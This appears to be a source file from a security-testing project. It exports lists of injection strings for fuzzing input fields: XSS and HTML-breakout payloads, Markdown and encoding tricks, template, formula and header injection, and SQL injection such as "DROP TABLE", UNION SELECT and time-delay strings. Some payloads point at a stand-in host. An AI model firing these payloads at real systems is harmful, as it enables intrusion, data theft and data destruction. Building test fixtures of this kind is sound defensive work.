// What is typed into every field. Made for this project: each line is one way out of one place that a
// page puts text into, or one character that means something to a database. A payload that works calls
// gh(), makes an element or an attribute whose name begins with gh-, or sends a header Gh-In.

export const SCRIPTS = [
  // out of text
  "<gh-a>", "<script>gh(1)</script>", "<ScRiPt src=//gh.example/a.js></sCrIpT>", "<img src=gh onerror=gh(2)>", "<svg onload=gh(3)>",
  "<svg><script>gh(4)</script></svg>", "<details open ontoggle=gh(5)>", "<iframe srcdoc='<gh-b>'></iframe>", "<math><gh-c></math>",
  "<a href=javascript:gh(6)>x</a>", "<form action=//gh.example><button>x</button></form>", "<base href=//gh.example/>", "<meta http-equiv=refresh content='0;url=//gh.example'>",
  "<link rel=stylesheet href=//gh.example/a.css>", "<style>*{color:red}</style>", "<object data=javascript:gh(7)>", "<input autofocus onfocus=gh(8)>",
  // out of attributes
  "\"><gh-d>", "'><gh-e>", "\" onmouseover=gh(9) x=\"", "' onfocus=gh(10) autofocus x='", "` onload=gh(11) `", "x\" gh-f=\"1", "x' gh-g='1", "x gh-h=1",
  // out of elements that hold raw text, and out of comments
  "</textarea><gh-i>", "</title><gh-j>", "</script><gh-k>", "</style><gh-l>", "--><gh-m>", "]]><gh-n>", "</select><gh-o>",
  // addresses
  "javascript:gh(12)", "java\tscript:gh(13)", "\u0001javascript:gh(14)", "data:text/html,<script>gh(15)</script>", "vbscript:gh(16)", "//gh.example",
  // Markdown
  "[x](javascript:gh(17))", "![x](x\" onerror=\"gh(18))", "[x](<javascript:gh(19)>)", "<javascript:gh(20)>", "[x]: javascript:gh(21)\n\n[x]",
  "|a|<gh-p>|\n|-|-|\n|b|\"><gh-q>|", "```\"><gh-r>\nx\n```", "![x](data:image/svg+xml,<svg/onload=gh(22)>)",
  // encodings
  "&lt;gh-s&gt;", "&#60;gh-t&#62;", "%3Cgh-u%3E", "\\u003cgh-v\\u003e", "\uff1cgh-w\uff1e", "+ADw-gh-x+AD4-", "<\u0000gh-y>",
  // templates, formulas, headers
  "{{7*7}}{{{gh}}}{{#t}}gh{{/t}}", "${7*7}<%= 7*7 %>", "=HYPERLINK(\"//gh.example\")", "@SUM(1)", "x\r\nGh-In: 1", "x\nSet-Cookie: gh=1",
];

export const STATEMENTS = [
  "'", "''", "\"", "`", "\\", "\\'", "'\\''", "%", "_", "%'", "\\%", "' OR '1'='1", "' OR 1=1 -- ", "') OR ('1'='1", "1 OR 1=1", "1' OR '1'='1' #",
  "'; DROP TABLE ticket; -- ", "1; SELECT SLEEP(9)", "' UNION SELECT NULL,NULL,NULL -- ", "' AND EXTRACTVALUE(1,CONCAT(0x7e,VERSION())) -- ",
  "/*!50000 SELECT*/", "0x27204f522031", "\uff07 OR 1=1", "\u02bc OR 1=1", "\u0000'", "ORDER BY 999", "id DESC, (SELECT 1)", "NULL", "-1", "1e309",
  "99999999999999999999", "\u{1f600}'\u{1f600}", "a\u0301' --", "\ud83d", "'||'", "' + '", "{\"$gt\":\"\"}", "1970-01-01'", "+(SELECT 1)+", "?",
];
